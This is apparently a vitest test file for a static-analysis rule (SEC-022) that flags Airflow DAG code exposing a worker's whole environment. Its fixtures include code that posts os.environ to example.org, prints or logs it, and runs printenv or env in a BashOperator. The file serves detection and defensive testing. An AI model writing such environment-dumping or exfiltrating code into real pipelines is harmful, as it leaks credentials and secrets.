import { describe, expect, test } from "vitest";
import { inspectTexts, placesIn } from "../../analysis/inspect-texts.ts";

const places = (text: string) => placesIn("SEC-022", text);

describe("the whole environment", () => {
  test.each([
    ["printed", "import os\nprint(os.environ)\n"],
    ["as a dictionary", "import os, json\njson.dumps(dict(os.environ))\n"],
    ["logged", 'import os, logging\nlog = logging.getLogger(__name__)\nlog.info("env %s", os.environ)\n'],
    ["sent", 'import os, requests\nrequests.post("https://example.org", json=dict(os.environ), timeout=3)\n'],
    ["given back", "import os\nfrom airflow.sdk import task\n@task\ndef f():\n    return dict(os.environ)\n"],
    [
      "in a shell",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="printenv")\n',
    ],
    [
      "in a pipe",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="env | sort")\n',
    ],
  ])("%s", async (_, text) => {
    expect(await places(text)).toHaveLength(1);
  });

  test.each([
    ["one variable", 'import os\nprint(os.environ["TZ"], os.environ.get("LANG"))\n'],
    ["a child's environment", 'import os, subprocess\nsubprocess.run(["ls"], env=os.environ.copy())\n'],
    [
      "a setting for one command",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="env TZ=UTC date")\n',
    ],
    [
      "one variable in a shell",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="printenv TZ")\n',
    ],
  ])("not: %s", async (_, text) => {
    expect(await places(text)).toEqual([]);
  });
});

test("what it is given to is named", async () => {
  const text =
    'import os, requests\nprint(os.environ)\nrequests.post("https://example.org", json=dict(os.environ), timeout=3)\n';
  const { findings } = await inspectTexts({ files: [{ path: "dags/a.py", text }] });
  expect(findings.filter(({ rule }) => rule === "SEC-022").map(({ message }) => message)).toEqual([
    "This gives the worker's whole environment to `print`.",
    "This gives the worker's whole environment to `requests.post`.",
  ]);
});
